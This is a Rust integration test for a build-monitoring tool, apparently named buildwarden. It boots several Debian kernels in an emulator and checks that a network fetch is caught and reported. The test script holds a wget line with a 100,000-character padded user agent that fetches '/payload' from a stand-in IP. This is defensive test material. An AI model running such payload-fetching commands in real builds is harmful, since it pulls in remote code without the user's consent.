//! The kernels of Debian's releases, in an emulator.

use crate::harness::{Dir, Done, run_within};
use buildwarden::report::model::Report;
use std::{fs, path::Path, process::Command, time::Duration};

/// What runs on each kernel, after `doctor` has said what it thinks of it.
const SCRIPT: &str = "
buildwarden doctor --no-probe || exit
pad=$(head -c 100000 /dev/zero | tr '\\0' x)
buildwarden run --job kernel --report /tmp/report.json -- sh -c \"
    true; wget -U$pad http://198.51.100.7/payload; true\" || exit
echo == report
cat /tmp/report.json
";

/// Runs a script on the kernel of a release.
#[track_caller]
pub(crate) fn boot(release: &str, text: &str) -> Done {
    let dir = Dir::new();
    let script = dir.path("script");
    fs::write(&script, text).unwrap();
    let boot = Path::new(env!("CARGO_MANIFEST_DIR")).join("integration/kernel/boot");
    let mut command = Command::new(boot);
    command.arg(release).arg(env!("CARGO_BIN_EXE_buildwarden")).arg(script);
    // The first time the kernel is downloaded.
    run_within(Duration::from_secs(300), &mut command)
}

#[track_caller]
fn check(release: &str) {
    let done = boot(release, SCRIPT).expect_code(0);
    let output = done.stdout();
    let (_, json) = output.split_once("== report\n").unwrap_or_else(|| panic!("{done}"));
    let report: Report =
        serde_json::from_str(json).unwrap_or_else(|error| panic!("{error}: {done}"));
    let [finding] = &report.findings[..] else { panic!("{done}") };
    assert_eq!(finding.addresses[0].address, "198.51.100.7");
    assert_eq!(finding.outcome.as_ref().and_then(|outcome| outcome.exit_code), Some(1));
    assert_eq!(finding.ancestry.last().and_then(|entry| entry.sequence), Some(1));
    assert_eq!(report.completeness.reasons, [""; 0], "{done}");
}

#[test]
fn root_kernel_5_10() {
    check("5.10");
}

#[test]
fn root_kernel_6_1() {
    check("6.1");
}

#[test]
fn root_kernel_6_12() {
    check("6.12");
}

#[test]
fn root_kernel_next() {
    check("next");
}
